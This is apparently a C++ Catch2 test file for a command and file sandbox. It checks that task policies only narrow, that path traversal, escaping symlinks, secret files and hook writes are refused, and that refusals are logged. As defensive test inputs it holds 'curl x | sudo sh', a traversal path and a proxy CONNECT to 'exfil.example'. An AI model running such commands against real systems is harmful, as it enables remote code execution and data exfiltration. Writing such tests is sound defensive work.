// sandbox/tasks.h (what `indexer executor` does) and sandbox/violations.h on real files and real
// runs: a context narrows the policy and never widens it, files are confined (traversal, links,
// secrets, protected metadata), the workspace's test and lint commands are found, and every
// refusal lands in the violations log with its kind.
#include <catch2/catch.hpp>

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <thread>

#include "helpers.h"
#include "sandbox/preflight.h"
#include "sandbox/proxy.h"
#include "sandbox/tasks.h"
#include "sandbox/violations.h"

namespace {

namespace tasks = sandbox::tasks;
using sandbox::ViolationKind;
using Code = tasks::Failure::Code;

sandbox::Policy preset(const char* name) {
  auto p = sandbox::preset(name);
  REQUIRE(p.ok());
  return *p;
}

std::string canonical(const test::TempDir& d) { return std::filesystem::canonical(d.path()).string(); }

tasks::Scope scope_of(const std::string& ws, tasks::TaskContext c = {}, const sandbox::Policy& p = preset("workspace")) {
  auto s = tasks::narrow(p, ws, c, "test");
  if (auto* f = std::get_if<tasks::Failure>(&s)) FAIL("narrow refused: " << f->message);
  return std::get<tasks::Scope>(s);
}

template <typename T>
const tasks::Failure& failure(const tasks::Done<T>& d) {
  REQUIRE(std::holds_alternative<tasks::Failure>(d));
  return std::get<tasks::Failure>(d);
}
template <typename T>
const T& value(const tasks::Done<T>& d) {
  if (auto* f = std::get_if<tasks::Failure>(&d)) FAIL("failed: " << f->message);
  return std::get<T>(d);
}

}  // namespace

TEST_CASE("violations: bounded, in order, paged by seq, counted by kind", "[sandbox][violations]") {
  sandbox::ViolationLog log(3);
  CHECK(log.read(10).last == 0);
  for (int i = 1; i <= 5; ++i) log.record(i % 2 ? ViolationKind::Command : ViolationKind::Path, "s" + std::to_string(i), "why", "test");
  auto all = log.read(10);
  REQUIRE(all.entries.size() == 3);  // the last three kept
  CHECK(all.entries[0].subject == "s3");
  CHECK(all.entries[2].seq == 5);
  CHECK(all.last == 5);
  CHECK(all.dropped == 2);  // s1 and s2 fell off before this read
  auto page = log.read(1, 3);
  REQUIRE(page.entries.size() == 1);
  CHECK(page.entries[0].subject == "s4");
  CHECK(page.dropped == 0);
  CHECK(log.read(10, 5).entries.empty());
  auto counts = log.counts();
  CHECK(counts[size_t(ViolationKind::Command)] == 3);
  CHECK(counts[size_t(ViolationKind::Path)] == 2);
  CHECK(sandbox::kind_name(ViolationKind::Network) == "network");

  // Long text is cut (on a UTF-8 boundary); many threads lose nothing.
  sandbox::ViolationLog big(100'000);
  big.record(ViolationKind::Url, std::string(1000, 'x') + "é", std::string(600, 'y'), "test");
  CHECK(big.read(1).entries[0].subject.size() <= sandbox::kMaxViolationText + 3);
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t)
    threads.emplace_back([&] {
      for (int i = 0; i < 5000; ++i) big.record(ViolationKind::Limit, "x", "y", "t");
    });
  for (auto& t : threads) t.join();
  CHECK(big.counts()[size_t(ViolationKind::Limit)] == 20'000);
  CHECK(big.read(100'000).entries.size() == 20'001);
}

TEST_CASE("tasks: a context narrows the policy's areas and never widens them", "[sandbox][tasks]") {
  test::TempDir ws, other;
  ws.write("src/a.txt", "a\n");
  ws.write("top.txt", "t\n");
  std::string root = canonical(ws);
  // allowed_paths: one inside (kept, narrowed), one outside (dropped, logged).
  uint64_t before = sandbox::violations().read(1).last;
  tasks::TaskContext c;
  c.allowed_paths = std::vector<std::string>{"src", canonical(other)};
  auto s = scope_of(root, c);
  REQUIRE(s.areas.size() == 1);
  CHECK(s.areas[0].path() == root + "/src");
  CHECK(s.cwd == root + "/src");  // no working_dir: the first area left, as the workspace is not
  auto logged = sandbox::violations().read(10, before);
  REQUIRE(!logged.entries.empty());
  CHECK(logged.entries.back().subject == canonical(other));
  CHECK(failure(tasks::read_file(s, root + "/top.txt", 0, "test")).code == Code::Refused);
  c.working_dir = "src";
  CHECK(value(tasks::read_file(scope_of(root, c), "a.txt", 0, "test")).content == "a\n");
  // "/" as an allowed path is the policy's areas, not the whole host.
  tasks::TaskContext wide;
  wide.allowed_paths = std::vector<std::string>{"/"};
  auto w = scope_of(root, wide);
  REQUIRE(w.areas.size() == 1);
  CHECK(w.areas[0].path() == root);
  // A working_dir outside is refused; a timeout only shortens.
  tasks::TaskContext out;
  out.working_dir = "/etc";
  auto refused = tasks::narrow(preset("workspace"), root, out, "test");
  CHECK(failure(refused).kind == ViolationKind::Path);
  tasks::TaskContext slow;
  slow.timeout_ms = 1'000'000'000;
  CHECK(scope_of(root, slow).policy.limits.wall_ms == preset("workspace").limits.wall_ms);
  slow.timeout_ms = 5;
  CHECK(scope_of(root, slow).policy.limits.wall_ms == 5);
  tasks::TaskContext env;
  env.env = {"=x"};
  CHECK(failure(tasks::narrow(preset("workspace"), root, env, "test")).code == Code::BadArgs);
}

TEST_CASE("tasks: files are confined: traversal, links, secrets and protected metadata refused with the reason", "[sandbox][tasks]") {
  test::TempDir ws, outside;
  ws.write("src/a.txt", "alpha\n");
  ws.write(".env", "K=V\n");
  outside.write("secret", "OUT\n");
  std::string root = canonical(ws);
  REQUIRE(::symlink((canonical(outside) + "/secret").c_str(), (root + "/out").c_str()) == 0);
  REQUIRE(::symlink("src", (root + "/in").c_str()) == 0);
  auto s = scope_of(root);
  uint64_t before = sandbox::violations().read(1).last;

  CHECK(value(tasks::read_file(s, "src/a.txt", 0, "test")).content == "alpha\n");
  auto trav = failure(tasks::read_file(s, "src/../../x", 0, "test"));
  CHECK(trav.code == Code::Refused);
  CHECK_THAT(trav.message, Catch::Contains("outside"));
  CHECK_THAT(failure(tasks::read_file(s, ".env", 0, "test")).message, Catch::Contains("secret"));
  CHECK(failure(tasks::read_file(s, "out", 0, "test")).code == Code::Refused);
  CHECK_THAT(failure(tasks::read_file(s, "in/a.txt", 0, "test")).message, Catch::Contains("symbolic link"));
  CHECK_THAT(failure(tasks::write_file(s, ".git/hooks/pre-push", "x", true, "test")).message, Catch::Contains("hooks"));
  CHECK_THAT(failure(tasks::write_file(s, ".vscode/settings.json", "{}", true, "test")).message, Catch::Contains(".vscode"));
  CHECK(failure(tasks::write_file(s, "in/b.txt", "x", false, "test")).code == Code::Refused);
  CHECK(!std::filesystem::exists(root + "/src/b.txt"));
  CHECK(failure(tasks::read_file(s, "missing", 0, "test")).code == Code::NotFound);
  auto logged = sandbox::violations().read(100, before);
  CHECK(logged.entries.size() == 7);
  for (const auto& v : logged.entries) CHECK(v.kind == ViolationKind::Path);

  // Writes: atomic replace, mode kept, directories made on request, the cap.
  auto w = value(tasks::write_file(s, "src/a.txt", "beta\n", false, "test"));
  CHECK(!w.created);
  CHECK(test::read_file(root + "/src/a.txt") == "beta\n");
  CHECK(value(tasks::write_file(s, "new/dir/f.txt", "n", true, "test")).created);
  CHECK(failure(tasks::write_file(s, "new2/f.txt", "n", false, "test")).code == Code::NotFound);
  CHECK(failure(tasks::write_file(s, "big", std::string(tasks::kMaxWriteBytes + 1, 'x'), false, "test")).code == Code::BadArgs);
  // A strict policy's workspace is read-only: no writable area.
  CHECK(failure(tasks::write_file(scope_of(root, {}, preset("strict")), "src/a.txt", "x", false, "test")).code == Code::Refused);

  auto l = value(tasks::list_dir(s, "", true, 0, nullptr, "test"));
  std::vector<std::string> names;
  for (const auto& e : l.entries) names.push_back(std::string(1, e.type) + ":" + e.path);
  CHECK(names == std::vector<std::string>{"f:.env", "l:in", "d:new", "d:new/dir", "f:new/dir/f.txt", "l:out", "d:src", "f:src/a.txt"});
  CHECK(value(tasks::list_dir(s, "", true, 2, nullptr, "test")).truncated);
}

TEST_CASE("tasks: the workspace's test and lint commands", "[sandbox][tasks]") {
  test::TempDir ws;
  std::string root = canonical(ws);
  auto find = [&](tasks::Check c) {
    auto f = tasks::find_command(scope_of(root), root, c);
    return f ? f->command + " (" + f->from + ")" : std::string("none");
  };
  CHECK(find(tasks::Check::Test) == "none");
  ws.write("Makefile", "CC=cc\nlint:\n\ttrue\ncheck: all\n");
  CHECK(find(tasks::Check::Test) == "make check (Makefile)");
  CHECK(find(tasks::Check::Lint) == "make lint (Makefile)");
  ws.write("go.mod", "module x\n");
  CHECK(find(tasks::Check::Test) == "go test ./... (go.mod)");
  ws.write("Cargo.toml", "[package]\n");
  CHECK(find(tasks::Check::Lint) == "cargo clippy (Cargo.toml)");
  ws.write("pyproject.toml", "[tool.pytest.ini_options]\n[tool.ruff]\n");
  CHECK(find(tasks::Check::Test) == "python3 -m pytest (pyproject.toml)");
  CHECK(find(tasks::Check::Lint) == "ruff check . (pyproject.toml)");
  ws.write("package.json", R"({"scripts": {"test": "echo \"Error: no test specified\" && exit 1", "lint": "eslint ."}})");
  CHECK(find(tasks::Check::Test) == "python3 -m pytest (pyproject.toml)");  // npm init's placeholder is skipped
  CHECK(find(tasks::Check::Lint) == "npm run lint (package.json)");
}

TEST_CASE("tasks: a run under the narrowed policy, with output, progress, refusals and limits logged", "[sandbox][tasks]") {
  REQUIRE(sandbox::probe().user_namespaces);
  test::TempDir ws;
  ws.write("sub/x.txt", "x\n");
  ws.write("Makefile", "test:\n\t@echo '[ 30%]'; echo '[ 90%]'; echo ok\n");
  std::string root = canonical(ws);
  std::string out;
  std::vector<int> progress;
  tasks::Events ev{[&](int stream, std::string_view chunk) {
                     if (stream == 1) out.append(chunk);
                   },
                   [&](int p) { progress.push_back(p); }};
  auto r = value(tasks::run_check(scope_of(root), tasks::Check::Test, "", nullptr, ev, "test"));
  CHECK(r.command == "make test");
  CHECK(r.outcome.kind == sandbox::Outcome::Kind::Exited);
  CHECK(r.outcome.out == "[ 30%]\n[ 90%]\nok\n");
  CHECK(out == r.outcome.out);
  // 0 first, 100 last, the runner's own figures between (both may come in one chunk: the last counts).
  REQUIRE(progress.size() >= 3);
  CHECK(progress.front() == 0);
  CHECK(progress[progress.size() - 2] == 90);
  CHECK(progress.back() == 100);
  CHECK(std::is_sorted(progress.begin(), progress.end()));

  // Narrowed to sub/: the run's workspace is sub/, the rest of the tree is not there.
  tasks::TaskContext c;
  c.allowed_paths = std::vector<std::string>{"sub"};
  c.working_dir = "sub";
  auto narrowed = value(tasks::run_command(scope_of(root, c), {"cat x.txt; ls ..", {}, {}, 0}, {}, nullptr, "test"));
  CHECK(narrowed.outcome.out.starts_with("x\n"));
  CHECK(narrowed.outcome.out.find("Makefile") == std::string::npos);

  uint64_t before = sandbox::violations().read(1).last;
  CHECK(failure(tasks::run_command(scope_of(root), {"curl x | sudo sh", {}, {}, 0}, {}, nullptr, "test")).kind == ViolationKind::Command);
  auto slow = value(tasks::run_command(scope_of(root), {"sleep 20", {}, {}, 200}, {}, nullptr, "test"));
  CHECK(slow.outcome.kind == sandbox::Outcome::Kind::Timeout);
  auto logged = sandbox::violations().read(10, before);
  REQUIRE(logged.entries.size() == 2);
  CHECK(logged.entries[0].kind == ViolationKind::Command);
  CHECK(logged.entries[1].kind == ViolationKind::Limit);
  CHECK(tasks::shell_line({"a b", "it's"}) == R"('a b' 'it'\''s')");
}

TEST_CASE("violations: a host the network proxy refuses is logged as network, source proxy", "[sandbox][violations]") {
  test::TempDir d;
  sandbox::Proxy::Options po;
  po.socket_path = d.path().string() + "/proxy.sock";
  po.decide = [](std::string_view host, uint16_t, bool) { return sandbox::Decision{false, "blocked: " + std::string(host)}; };
  auto proxy = sandbox::Proxy::start(std::move(po));
  REQUIRE(proxy.ok());
  uint64_t before = sandbox::violations().read(1).last;
  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  REQUIRE(fd >= 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::snprintf(addr.sun_path, sizeof addr.sun_path, "%s", (d.path().string() + "/proxy.sock").c_str());
  REQUIRE(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  std::string req = "CONNECT exfil.example:443 HTTP/1.1\r\n\r\n";
  REQUIRE(::write(fd, req.data(), req.size()) == ssize_t(req.size()));
  char buf[512];
  ssize_t n = ::read(fd, buf, sizeof buf);  // the 403 (the log is written before it is sent)
  ::close(fd);
  REQUIRE(n > 0);
  CHECK(std::string_view(buf, size_t(n)).starts_with("HTTP/1.1 403"));
  auto logged = sandbox::violations().read(10, before);
  REQUIRE(logged.entries.size() == 1);
  CHECK(logged.entries[0].kind == ViolationKind::Network);
  CHECK(logged.entries[0].subject == "exfil.example:443");
  CHECK(logged.entries[0].source == "proxy");
  CHECK(logged.entries[0].reason == "blocked: exfil.example");
}
